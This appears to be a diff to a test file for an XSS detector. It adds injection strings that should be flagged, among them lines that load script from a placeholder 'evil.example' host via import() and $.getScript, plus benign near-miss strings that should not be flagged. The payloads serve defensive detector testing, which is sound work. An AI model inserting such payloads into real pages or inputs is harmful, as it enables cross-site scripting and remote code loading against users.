@@ -61,6 +61,10 @@ test.each([
   `\${alert(1)}`,
   `x \${top["al"+"ert"](1)} y`,
   "'-import('//evil.example')-'",
+  "'(alert(1))-'",
+  '"\n(fetch(name))//',
+  "' [console.log(1)]//",
+  `\${$.getScript('//evil.example')}`,
   '<a filter=alpha(x)>',
 ])('%j is script', (text) => {
   expect(xss(text)).toBe(true);
@@ -91,6 +95,9 @@ test.each([
   '- `.option()` and `--flag`',
   '["text"](https://shop.example/a(b))',
   `\${name} and \${price.toFixed(2)}`,
+  '"(foo(bar)?)"',
+  "'[data-x(1)]'",
+  `\${$.bold(command)} \${x:-$(pwd)}`,
   'filter=price',
 ])('%j is none', (text) => {
   expect(xss(text)).toBe(false);
